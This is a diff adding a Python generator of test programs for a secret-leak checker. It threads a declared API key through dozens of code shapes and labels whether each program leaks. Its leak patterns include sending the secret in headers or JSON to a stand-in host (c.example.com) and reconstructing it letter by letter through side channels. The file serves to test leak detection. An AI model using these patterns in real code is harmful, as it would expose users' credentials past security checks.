@@ -1,0 +1,170 @@
+"""Programs that try to get a secret out: ways to carry it, ways to let it go, and the few that are allowed.
+
+A *carrier* takes an expression that holds the secret and gives statements and
+another expression that still holds it. A *way out* lets an expression go where
+somebody could see it; a *right use* sends it where it is declared for. A
+program is one secret, some carriers one after another, and an end. Texts are
+indented by lines; `{n}` makes names unique.
+"""
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+
+HEAD = '''\
+from __future__ import annotations
+
+from collections.abc import Callable
+
+from monoglot import App, Entity, Id, Secret, Shared, Table, fetch, verify
+
+
+class Note(Entity):
+    text: str
+
+
+class Leak(App):
+    notes: Shared[Table[Note]]
+    last: Shared[str] = ""
+    flag: Shared[int] = 0
+    parts: Shared[list[str]] = []
+    key = Secret("the-key", host="api.example.com")
+    other = Secret("other-key", host=["api.example.com", "b.example.com"])
+'''
+LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789-"
+
+
+@dataclass(frozen=True)
+class Shape:
+    """Statements, the expression that results (carriers), and methods beside. `{e}` is the expression that goes in."""
+
+    name: str
+    lines: str = ""
+    out: str = "{e}"
+    methods: str = ""
+
+
+CARRIERS = (
+    Shape("variable", "v{n} = {e}", "v{n}"),
+    Shape("f-string", "s{n} = {e}\nv{n} = f'<{{s{n}}}>'", "v{n}"),
+    Shape("sum", "", '("a" + {e} + "z")'),
+    Shape("str", "", "str({e})"),
+    Shape("join", "", '"-".join(["a", {e}])'),
+    Shape("list", "v{n} = ['x', {e}]", "v{n}[1]"),
+    Shape("slice of a list", "v{n} = ['x', {e}][1:]", "v{n}[0]"),
+    Shape("dict", "v{n} = {{'a': 'x', 'b': {e}}}", "v{n}['b']"),
+    Shape("dict.get", "v{n} = {{'b': {e}}}.get('b', '')", "v{n}"),
+    Shape("dict.values", "v{n} = ''\nfor w{n} in {{'b': {e}}}.values():\n    v{n} = w{n}", "v{n}"),
+    Shape("dict.items", "v{n} = ''\nfor k{n}, w{n} in {{'b': {e}}}.items():\n    v{n} = w{n}", "v{n}"),
+    Shape("setdefault", "d{n}: dict[str, str] = {{}}\nv{n} = d{n}.setdefault('a', {e})", "d{n}['a']"),
+    Shape("tuple", "u{n}, v{n} = (1, {e})", "v{n}"),
+    Shape("tuple index", "", "(1, {e})[1]"),
+    Shape("nested tuples", "(t{n}, (u{n}, v{n})) = ('a', (1, {e}))", "v{n}"),
+    Shape("helper", "v{n} = self._same{n}({e})", "v{n}", "def _same{n}(self, text: str) -> str:\n    return text"),
+    Shape("helper's default", "v{n} = self._more{n}({e})", "v{n}", "def _more{n}(self, text: str, end: str = '.') -> str:\n    return text + end"),
+    Shape("two helpers", "", "self._a{n}({e})", "def _a{n}(self, text: str) -> str:\n    return self._b{n}(text, 1)\n"
+          "def _b{n}(self, text: str, count: int) -> str:\n    return f'{{count}}{{text}}'"),
+    Shape("recursion", "", "self._r{n}(3, {e})", "def _r{n}(self, count: int, text: str) -> str:\n    if count == 0:\n        return text\n"
+          "    return self._r{n}(count - 1, text)"),
+    Shape("filled list", "v{n}: list[str] = []\nself._fill{n}(v{n}, {e})", "v{n}[0]", "def _fill{n}(self, into: list[str], text: str) -> None:\n    into.append(text)"),
+    Shape("alias", "v{n}: list[str] = []\nw{n} = v{n}\nw{n}.append({e})", "v{n}[-1]"),
+    Shape("list in a list", "v{n}: list[str] = []\nw{n} = [v{n}]\nw{n}[0].insert(0, {e})", "v{n}[0]"),
+    Shape("item assigned", "v{n} = ['x']\nv{n}[0] = {e}", "v{n}[0]"),
+    Shape("extend", "v{n} = ['x']\nv{n}.extend([{e}])", "v{n}.pop()"),
+    Shape("added to", "v{n} = 'x'\nv{n} += {e}", "v{n}"),
+    Shape("nested function", "def g{n}() -> str:\n    return {e}", "g{n}()"),
+    Shape("nested function's parameter", "def g{n}(text: str) -> str:\n    return text + '!'", "g{n}({e})"),
+    Shape("closure over a list", "v{n}: list[str] = []\ndef g{n}(text: str) -> None:\n    v{n}.append(text)\ng{n}({e})", "v{n}[0]"),
+    Shape("lambda", "v{n} = self._call{n}(lambda: {e})", "v{n}", "def _call{n}(self, make: Callable[[], str]) -> str:\n    return make()"),
+    Shape("function given", "v{n} = self._apply{n}(self._id{n}, {e})", "v{n}",
+          "def _apply{n}(self, change: Callable[[str], str], text: str) -> str:\n    return change(text)\ndef _id{n}(self, text: str) -> str:\n    return text"),
+    Shape("list comprehension", "", "[w{n} for w{n} in ['x', {e}]][1]"),
+    Shape("dict comprehension", "", "{{1: w{n} for w{n} in ['x', {e}]}}[1]"),
+    Shape("generator", "", "''.join(w{n} for w{n} in [{e}])"),
+    Shape("for", "v{n} = ''\nfor w{n} in [{e}]:\n    v{n} = w{n}", "v{n}"),
+    Shape("enumerate", "v{n} = ''\nfor i{n}, w{n} in enumerate([{e}]):\n    v{n} = w{n}", "v{n}"),
+    Shape("zip", "v{n} = ''\nfor i{n}, w{n} in zip([1], [{e}]):\n    v{n} = w{n}", "v{n}"),
+    Shape("reversed", "", "list(reversed([{e}, 'x']))[1]"),
+    Shape("copy", "", "[{e}].copy()[0]"),
+    Shape("while", "v{n} = ''\nc{n} = 0\nwhile c{n} < 2:\n    v{n} = {e}\n    c{n} += 1", "v{n}"),
+    Shape("conditional", "", "({e} if self.flag == 0 else 'x')"),
+    Shape("branches", "if self.flag == 0:\n    v{n} = {e}\nelse:\n    v{n} = 'x'", "v{n}"),
+    Shape("try", "v{n} = 'x'\ntry:\n    v{n} = {e}\n    raise ValueError('a')\nexcept ValueError:\n    pass", "v{n}"),
+    Shape("finally", "v{n} = 'x'\ntry:\n    pass\nfinally:\n    v{n} = {e}", "v{n}"),
+    Shape("optional", "v{n}: str | None = {e}\nif v{n} is None:\n    return 'none'", "v{n}"),
+    Shape("list of lists", "v{n} = [[{e}]]", "v{n}[0][0]"),
+    Shape("tuple in a dict in a list", "v{n} = [{{'a': (1, {e})}}]", "v{n}[0]['a'][1]"),
+)
+
+WAYS_OUT = (
+    Shape("scalar state", "self.last = {e}"),
+    Shape("list state", "self.parts = self.parts + [{e}]"),
+    Shape("row", "self.notes.insert(Note(text={e}))"),
+    Shape("update", "n{n} = self.notes.insert(Note(text='x'))\nself.notes.update(n{n}, text={e})"),
+    Shape("result", "return {e}"),
+    Shape("exception", "raise ValueError({e})"),
+    Shape("caught exception", "try:\n    raise ValueError('bad ' + {e})\nexcept ValueError as error:\n    self.last = str(error)"),
+    Shape("assert", "assert self.flag == 1, {e}"),
+    Shape("path", "s{n} = {e}\nfetch.get(f'https://api.example.com/{{s{n}}}')"),
+    Shape("query", "u{n} = 'https://api.example.com/?k=' + {e}\nfetch.get(u{n})"),
+    Shape("header elsewhere", "fetch.get('https://c.example.com/', headers={{'X-Key': {e}}})"),
+    Shape("json elsewhere", "fetch.post('https://c.example.com/', json={{'a': [{e}]}})"),
+    Shape("header by a helper elsewhere", "self._send{n}({{'X-Key': {e}}})", methods="def _send{n}(self, headers: dict[str, str]) -> None:\n    fetch.get('https://c.example.com/', headers=headers)"),
+    Shape("action's argument", "self.keep({e})"),
+    Shape("guessed letter by letter", "g{n} = ''\nfor i{n} in range(40):\n    for c{n} in '" + LETTERS + "':\n"
+          "        if (g{n} + c{n}) in {e}:\n            g{n} = g{n} + c{n}\n            break\nself.last = g{n}"),
+    Shape("prefix by prefix", "g{n} = ''\nfor i{n} in range(60):\n    for c{n} in '<" + LETTERS + ">az.!':\n"
+          "        if {e}.startswith(g{n} + c{n}):\n            g{n} = g{n} + c{n}\n            break\nself.last = g{n}"),
+    Shape("bisected by order", "g{n} = ''\nfor i{n} in range(40):\n    for c{n} in '" + LETTERS + "':\n"
+          "        if g{n} + c{n} <= {e}:\n            b{n} = c{n}\n            self.last = g{n} + c{n}\n    g{n} = self.last"),
+    Shape("letters of a loop", "g{n} = ''\nfor c{n} in {e}:\n    g{n} += c{n}\nself.last = g{n}"),
+    Shape("letters of an index", "g{n} = ''\nfor i{n} in range(30):\n    g{n} += {e}[i{n} % 13]\nself.last = g{n}"),
+    Shape("slice", "self.last = {e}[:13] + {e}[13:]"),
+    Shape("upper", "self.last = {e}.upper().lower()"),
+    Shape("replace", "self.last = {e}.replace('-', '-')"),
+    Shape("split", "self.last = '-'.join({e}.split('-'))"),
+    Shape("format", "s{n} = {e}\nself.last = f'{{s{n}:>90}}'"),
+    Shape("repr", "self.last = repr({e})"),
+    Shape("text of a list", "s{n} = [{e}]\nself.last = f'{{s{n}}}'"),
+    Shape("list of letters", "self.last = ''.join(list({e}))"),
+    Shape("sorted", "self.last = sorted([{e}])[0]"),
+    Shape("maximum", "self.last = max({e}, '')"),
+    Shape("dict's key", "for k{n} in {{{e}: 1}}:\n    self.last = k{n}"),
+    Shape("or", "self.last = {e} or 'x'"),
+    Shape("length", "self.flag = len({e})\nself.last = 'k' * len({e}) if self.flag == 0 else str(len({e}))"),
+    Shape("where", "self.notes.insert(Note(text='x'))\nif self.notes.where(text={e}):\n    self.last = 'x'"),
+    Shape("doubled", "self.last = {e} * 2"),
+    Shape("key function", "self.last = sorted(['a', 'b'], key=lambda w{n}: {e})[0]"),
+    Shape("verified text", "if verify.hmac_sha256(self.key, {e}, '00'):\n    self.last = 'x'"),
+)
+
+RIGHT_USES = (
+    Shape("header", "fetch.get('https://api.example.com/r', headers={{'X-Key': {e}}})"),
+    Shape("json", "fetch.post('https://api.example.com/r', json={{'key': {e}, 'deep': [{{'a': {e}}}]}})"),
+    Shape("dropped", "d{n} = [{e}]\nif len(d{n}) == 1:\n    return 'one'"),
+    Shape("not none", "w{n}: str | None = {e}\nif w{n} is not None:\n    return 'some'"),
+)
+
+
+@dataclass
+class Program:
+    """The text of a module, and what the checker should say of it."""
+
+    text: str
+    leaks: bool
+    shapes: list[str] = field(default_factory=list)
+
+
+def program(choice: random.Random, carriers: list[Shape], end: Shape, secret: str = "key") -> Program:
+    """An app whose action `go` carries the secret through the shapes to the end."""
+    lines, methods, expression = "", "", f"self.{secret}"
+    for number, shape in enumerate([*carriers, end]):
+        made = shape.lines.format(e=expression, n=number)
+        lines += "".join(f"        {line}\n" for line in made.split("\n") if line)
+        methods += "".join(f"\n    {line}" for line in shape.methods.format(n=number).split("\n") if line)
+        expression = shape.out.format(e=expression, n=number)
+    noise = "" if choice.random() < 0.5 else "        self._noise()\n"
+    text = (f"{HEAD}\n    def go(self) -> str:\n{noise}{lines}        return 'done'\n\n"
+            "    def keep(self, text: str) -> None:\n        self.last = text\n\n"
+            f"    def _noise(self) -> list[str]:\n        return ['x', f'{{self.flag}}']\n{methods}\n")
+    return Program(text, end in WAYS_OUT, [*(c.name for c in carriers), end.name])
